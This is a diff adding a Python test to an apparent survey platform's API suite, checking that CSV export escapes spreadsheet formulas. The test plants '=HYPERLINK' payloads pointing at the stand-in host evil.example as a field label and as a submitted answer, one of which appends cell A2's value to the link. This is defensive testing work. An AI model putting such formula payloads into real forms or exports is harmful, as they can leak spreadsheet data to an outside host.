@@ -240,3 +240,27 @@ def test_results_export_as_xlsx_keeps_the_columns(shequyun_client, shequyun_acto
         f"/api/v1/campaigns/{campaign}/export?format=pdf", headers=bureau.auth
     )
     assert refused.status_code == 422 and refused.json()["error"]["field"] == "format"
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(shequyun_client, shequyun_actors):
+    import csv
+    import io
+
+    bureau = shequyun_actors.bureau()
+    cadre = shequyun_actors.cadre("310104003001")
+    form = copy.deepcopy(COMMITTEE_COUNT)
+    form["ui"]["fields"]["remark"]["label"] = '=HYPERLINK("http://evil.example","备注")'
+    _, campaign = open_campaign(shequyun_client, bureau, form, ["310104003000"])
+    (task,) = shequyun_client.get("/api/v1/tasks", headers=cadre.auth).json()["items"]
+    answer = '=HYPERLINK("http://evil.example/?"&A2,"点这里")'
+    submitted = shequyun_client.post(
+        f"/api/v1/tasks/{task['id']}/submit",
+        headers=cadre.auth,
+        json={"client_key": "csv-formula-1", "data": {"households": 0, "remark": answer}},
+    )
+    assert submitted.status_code == 201, submitted.text
+    export = shequyun_client.get(f"/api/v1/campaigns/{campaign}/export", headers=bureau.auth)
+    header, row = csv.reader(io.StringIO(export.content.decode("utf-8-sig")))
+    assert header[-1] == "'" + form["ui"]["fields"]["remark"]["label"]
+    assert row[-1] == "'" + answer
+    assert row[-3] == "0"  # numbers stay numbers
